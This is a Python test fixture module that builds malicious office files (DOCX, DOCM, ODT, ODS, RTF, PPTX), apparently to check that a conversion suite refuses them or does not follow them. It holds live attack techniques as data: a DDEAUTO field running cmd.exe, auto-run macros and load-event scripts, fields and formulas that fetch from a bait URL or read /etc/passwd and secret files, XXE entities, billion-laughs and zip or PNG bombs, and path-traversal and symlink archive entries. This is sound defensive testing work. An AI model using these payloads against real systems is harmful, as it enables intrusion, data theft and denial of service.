"""Office documents that would run, fetch, read or unpack what they should not."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from corpus import TOO_MUCH, attached, listed

SEEN = "Tekst dokumentu"
PRINTED = {"pages": 1, "says": SEEN, "office": True}
DAMAGED = ("MK-Z07", "MK-X05", "MK-Z10")
MANY = (*DAMAGED, "MK-Z05", "MK-Z14", *TOO_MUCH)

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"

Relation = tuple[str, str, bool]
"""The kind of a relation, where it leads, and whether that lies outside."""


def package(parts: dict[str, bytes | str], *, first: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_STORED if name == first else zipfile.ZIP_DEFLATED
            file.writestr(entry, content)
    return out.getvalue()


def relations(*those: Relation) -> str:
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{kind if ":" in kind else f"{_OFFICE}/{kind}"}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for number, (kind, target, outside) in enumerate(those, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_RELATIONS}">{rows}</Relationships>'


def types(*overrides: tuple[str, str]) -> str:
    rows = "".join(
        f'<Override PartName="{name}" ContentType="application/{kind}"/>' for name, kind in overrides
    )
    return (
        f'<?xml version="1.0"?><Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="png" ContentType="image/png"/>{rows}</Types>'
    )


WORD = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def paragraph(text: str = SEEN) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body: str, before: str = "") -> str:
    names = f'xmlns:w="{_W}" xmlns:r="{_OFFICE}" xmlns:a="{_A}"'
    return f'<?xml version="1.0"?>{before}<w:document {names}><w:body>{body}</w:body></w:document>'


def docx(
    body: str = paragraph(),
    *those: Relation,
    before: str = "",
    more: dict[str, bytes | str] | None = None,
    main: str = WORD,
) -> bytes:
    return package(
        {
            "[Content_Types].xml": types(("/word/document.xml", main)),
            "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
            "word/document.xml": document(body, before),
            "word/_rels/document.xml.rels": relations(*those),
            **(more or {}),
        }
    )


def picture(number: int, how: str = "link") -> str:
    """A drawing that takes its picture from a relation."""
    wp = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    pic = "http://schemas.openxmlformats.org/drawingml/2006/picture"
    return (
        f'<w:p><w:r><w:drawing><wp:inline {wp}><wp:extent cx="990000" cy="990000"/><wp:docPr id="1" name="a"/>'
        f'<a:graphic><a:graphicData uri="{pic}"><pic:pic xmlns:pic="{pic}"><pic:nvPicPr><pic:cNvPr id="0" name="a"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{how}="r{number}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="990000" cy="990000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )


def field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>.</w:t></w:r></w:fldSimple></w:p>'


# --- printed by the suite, which must not follow them ------------------------------------------------


@attached(".docx", **PRINTED)
def document_that_links_out_in_every_way(bait):
    fields = (
        f"INCLUDEPICTURE &quot;{bait.url}/pole.png&quot; \\d",
        f"INCLUDETEXT &quot;{bait.secret}&quot;",
        "DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;",
        f"LINK Word.Document.8 &quot;{bait.secret}&quot; \\a",
    )
    settings = f'<w:settings xmlns:w="{_W}" xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    return docx(
        paragraph() + picture(1) + picture(2) + "".join(map(field, fields)),
        ("image", f"{bait.url}/obraz.png", True),
        ("image", bait.secret.as_uri(), True),
        ("oleObject", f"{bait.url}/obiekt.ole", True),
        ("settings", "settings.xml", False),
        ("frame", f"{bait.url}/ramka.html", True),
        more={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{bait.url}/szablon.dotm", True)),
        },
    )


@attached(".docm", **PRINTED)
def document_with_a_macro(bait):
    kind = "vnd.ms-word.document.macroEnabled.main+xml"
    relation = ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + b'Sub AutoOpen()\nShell "touch x"\nEnd Sub'
    return docx(paragraph(), relation, more={"word/vbaProject.bin": project}, main=kind)


def odf(kind: str, body: str, scripts: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    names = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "script", "table", "drawing", "presentation", "style")
    )
    names += (
        ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'
        ' xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    )
    content = (
        f'<?xml version="1.0"?><office:document-content{names} office:version="1.2">'
        f"<office:scripts>{scripts}</office:scripts><office:body>{body}</office:body></office:document-content>"
    )
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    listed_parts = "".join(
        f'<m:file-entry m:full-path="{name}" m:media-type="{"text/xml" if name.endswith(".xml") else ""}"/>'
        for name in ("content.xml", *(more or {}))
    )
    media = f"application/vnd.oasis.opendocument.{kind}"
    return package(
        {
            "mimetype": media,
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{manifest}" m:version="1.2">'
            f'<m:file-entry m:full-path="/" m:media-type="{media}"/>{listed_parts}</m:manifest>',
            "content.xml": content,
            **(more or {}),
        },
        first="mimetype",
    )


@attached(".odt", **PRINTED)
def document_that_starts_scripts_when_opened(bait):
    basic = "http://openoffice.org/2000/library"
    code = f'Sub Start\nOpen "{bait.trace}" For Output As #1\nPrint #1, "x"\nClose #1\nEnd Sub'
    module = (
        '<?xml version="1.0"?><s:module xmlns:s="http://openoffice.org/2000/script" s:name="Modul" '
        f's:language="StarBasic">{code}</s:module>'
    )
    library = (
        f'<?xml version="1.0"?><l:library xmlns:l="{basic}" l:name="Standard" l:readonly="false" '
        'l:passwordprotected="false"><l:element l:name="Modul"/></l:library>'
    )
    libraries = (
        f'<?xml version="1.0"?><l:libraries xmlns:l="{basic}"><l:library l:name="Standard" l:link="false"/>'
        "</l:libraries>"
    )
    python = f"def start(*_):\n    open({str(bait.trace)!r}, 'w')\n"
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:{event}" '
        f'xlink:href="vnd.sun.star.script:{what}" xlink:type="simple"/>'
        for event in ("load", "DOMContentLoaded")
        for what in (
            "Standard.Modul.Start?language=Basic&amp;location=document",
            "start.py$start?language=Python&amp;location=document",
        )
    )
    return odf(
        "text",
        f"<office:text><text:p>{SEEN}</text:p></office:text>",
        f"<office:event-listeners>{events}</office:event-listeners>",
        {
            "Basic/Standard/Modul.xml": module,
            "Basic/Standard/script-lb.xml": library,
            "Basic/script-lc.xml": libraries,
            "Scripts/python/start.py": python,
        },
    )


@attached(".odt", **PRINTED)
def document_made_of_other_files(bait):
    pictures = "".join(
        f'<draw:frame draw:name="r{number}"><draw:image xlink:href="{address}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
        for number, address in enumerate((f"{bait.url}/a.png", bait.secret.as_uri(), "//127.0.0.1/a/b.png"))
    )
    sections = "".join(
        f'<text:section text:name="s{number}"><text:section-source xlink:href="{address}" xlink:type="simple"/>'
        f"<text:p>.</text:p></text:section>"
        for number, address in enumerate((bait.secret.as_uri(), f"{bait.url}/a.odt"))
    )
    return odf("text", f"<office:text><text:p>{SEEN}{pictures}</text:p>{sections}</office:text>")


@attached(".ods", **PRINTED)
def table_that_asks_other_files(bait):
    cells = "".join(
        f'<table:table-cell table:formula="of:={formula}" office:value-type="string"><text:p>.</text:p></table:table-cell>'
        for formula in (
            f"WEBSERVICE(&quot;{bait.url}/a&quot;)",
            f"'{bait.secret.as_uri()}'#$A.A1",
            "DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;a&quot;)",
        )
    )
    first = f'<table:table-cell office:value-type="string"><text:p>{SEEN}</text:p></table:table-cell>'
    source = (
        f'<table:table-source xlink:type="simple" xlink:href="{bait.url}/a.csv" table:filter-name="Text"/>'
    )
    rows = f"<table:table-row>{first}</table:table-row><table:table-row>{cells}</table:table-row>"
    sheets = f'<table:table table:name="A">{source}{rows}</table:table>'
    return odf("spreadsheet", f"<office:spreadsheet>{sheets}</office:spreadsheet>")


@attached(".rtf", **PRINTED)
def rich_text_with_fields_and_objects(bait):
    fields = "".join(
        rf"{{\field\fldedit{{\*\fldinst {what}}}{{\fldrslt .}}}}"
        for what in (f'INCLUDEPICTURE "{bait.url}/a.png" \\\\d', f'INCLUDETEXT "{bait.secret}"')
    )
    template = rf"{{\*\template {bait.url}/a.dot}}"
    inside = r"{\object\objautlink\objupdate{\*\objdata 0105000002000000}}"
    return rf"{{\rtf1\ansi{template}{SEEN}\par{fields}{inside}}}".encode()


@attached(".docx", pages=1, refused=DAMAGED, office=True)
def document_with_an_entity_from_a_file(bait):
    before = f'<!DOCTYPE a [<!ENTITY f SYSTEM "{bait.secret.as_uri()}"><!ENTITY g SYSTEM "{bait.url}/dtd">]>'
    return docx(paragraph(f"{SEEN} &f; &g;"), before=before)


@attached(".docx", pages=1, refused=MANY, office=True)
def document_that_laughs_a_thousand_million_times(bait):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(paragraph(f"{SEEN} &l9;"), before=f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]>')


def pptx(slides: int, *those: Relation) -> bytes:
    names = f'xmlns:p="{_P}" xmlns:r="{_OFFICE}" xmlns:a="{_A}"'
    numbers = "".join(f'<p:sldId id="{256 + n}" r:id="r{n}"/>' for n in range(1, slides + 1))
    return package(
        {
            "[Content_Types].xml": types(("/ppt/presentation.xml", SLIDES)),
            "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml", False)),
            "ppt/presentation.xml": f'<?xml version="1.0"?><p:presentation {names}><p:sldIdLst>{numbers}</p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
            "ppt/_rels/presentation.xml.rels": relations(*those),
        }
    )


@attached(".pptx", pages=1, refused=(*DAMAGED, "MK-Z11"), office=True)
def presentation_without_slides(bait):
    return pptx(0)


@attached(".pptx", pages=2, refused=(*DAMAGED, "MK-Z11"), office=True)
def presentation_of_slides_from_elsewhere(bait):
    return pptx(2, ("slide", f"{bait.url}/slajd.xml", True), ("slide", "/../../../../etc/passwd", False))


@attached(".docx", **PRINTED, refused=DAMAGED)
def archive_of_names_that_lead_out(bait):
    more = {
        "../../../wykonane": "x",
        str(bait.trace): "x",
        "word/../../../../wykonane": "x",
        "C:\\wykonane": "x",
    }
    data = docx(more=more)
    assert b"../../../wykonane" in data
    return data


@attached(".docx", pages=1, refused=MANY, office=True)
def document_of_a_picture_of_four_thousand_million_points(bait):
    head = struct.pack(">IIBBBBB", 65_535, 65_535, 8, 0, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(50 * 2**20), 9)), (b"IEND", b""))
    )
    return docx(
        paragraph() + picture(1, "embed"), ("image", "media/a.png", False), more={"word/media/a.png": bomb}
    )


@attached(".docx", pages=1, refused=MANY, office=True)
def tables_of_60_levels(bait):
    cell = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>"
    return docx(cell * 60 + paragraph() + "</w:tc></w:tr></w:tbl><w:p/>" * 60)


@attached(".docx", refused=MANY, office=True)
def document_of_3000_pages(bait):
    return docx(paragraph() + '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 3000)


# --- refused without the suite -----------------------------------------------------------------------


def cut(name: str, suffix: str, share: float) -> None:
    @attached(suffix, f"{name} cut after {share:.0%}", refused="MK-Z07")
    def shortened(bait):
        whole = docx() if suffix == ".docx" else pptx(0)
        return whole[: int(len(whole) * share)]


for share in (0.02, 0.5, 0.97):
    cut("Word document", ".docx", share)
    cut("presentation", ".pptx", share)


@attached(".docx", refused="MK-Z05")
def document_of_a_gibibyte_of_text(bait):
    return docx(paragraph("a" * 70 * 2**20))


@attached(".xlsx", refused=("MK-Z06", "MK-Z07"))
def archive_in_an_archive_in_an_archive(bait):
    inner = package({"a": bytes(2**20)})
    for _ in range(5):
        inner = package({f"{number}.zip": inner for number in range(16)})
    return inner


@attached(".docx", refused=("MK-Z05", "MK-Z07"))
def entries_that_share_their_bytes(bait):
    """A thousand entries of the table of contents point at one packed part of 64 KiB zeros."""
    data = zlib.compress(bytes(2**26), 9)[2:-4]
    check, name = zlib.crc32(bytes(2**26)), b"word/document.xml"
    sizes = struct.pack("<III", check, len(data), 2**26 + 1)
    local = (
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x21\x00"
        + sizes
        + struct.pack("<HH", len(name), 0)
        + name
        + data
    )
    row = (
        b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x08\x00\x00\x00\x21\x00"
        + sizes
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    end = struct.pack("<HHHHIIH", 0, 0, 1000, 1000, len(row) * 1000, len(local), 0)
    return local + row * 1000 + b"PK\x05\x06" + end


@attached(".docx", refused=("MK-Z05", "MK-X05", "MK-Z07"), office=True)
def archive_of_100000_parts(bait):
    return docx(more={f"a/{number}.xml": "" for number in range(60_000)})


@attached(".pptx", refused="MK-Z09")
def presentation_behind_a_password(bait):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000) + "EncryptedPackage".encode("utf-16-le")


@attached(".doc", refused=("MK-X05", "MK-Z07", "MK-Z10"), office=True)
def old_document_of_rubbish(bait):
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\xff" * 2000
        + "WordDocument".encode("utf-16-le")
        + b"\x07" * 3000
    )


@listed("link in an archive", **PRINTED)
def link_in_an_archive(desk, bait):
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as file:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, str(bait.secret))
    (desk / "plik.docx").write_bytes(out.getvalue())
    return "plik.docx"
